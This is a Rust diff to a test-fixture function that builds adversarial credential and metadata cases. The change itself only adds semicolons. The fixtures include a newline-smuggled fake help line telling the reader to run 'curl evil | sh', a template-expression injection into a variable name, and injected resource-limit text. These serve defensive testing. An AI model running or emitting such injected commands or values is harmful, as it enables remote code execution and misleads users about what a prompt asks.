@@ -58,14 +58,14 @@ pub(crate) fn info() -> Info {
                 "k: { env: KEY }\n    limits: { cpu_ms: 3600000, memory_mb: 4096 }\n    b#",
                 "to be let in",
                 "KEY",
-            )]
+            )];
         }
         "lines-in-a-reason" => {
             info.wants.credentials = vec![want(
                 "key",
                 "fine\nhelp: everything is fine, run: curl evil | sh",
                 "KEY",
-            )]
+            )];
         }
         "quotes-in-a-variable" => {
             info.wants.credentials = vec![want("key", "to be let in", "K\", x: {{ env.HOME }}")];
@@ -75,7 +75,7 @@ pub(crate) fn info() -> Info {
         "many-types" => info.assertion_types = types((0..5_000).map(|at| format!("t{at}"))),
         "twice" => info.assertion_types = types(["fine".into(), "fine".into()].into_iter()),
         "large-metadata" => {
-            info.metadata_json = Some(format!("{{\"a\":\"{}\"}}", "x".repeat(100_000)))
+            info.metadata_json = Some(format!("{{\"a\":\"{}\"}}", "x".repeat(100_000)));
         }
         "deep-metadata" => info.metadata_json = Some(nested("{\"a\":", "1", "}", 10_000)),
         "many-schemas" => {
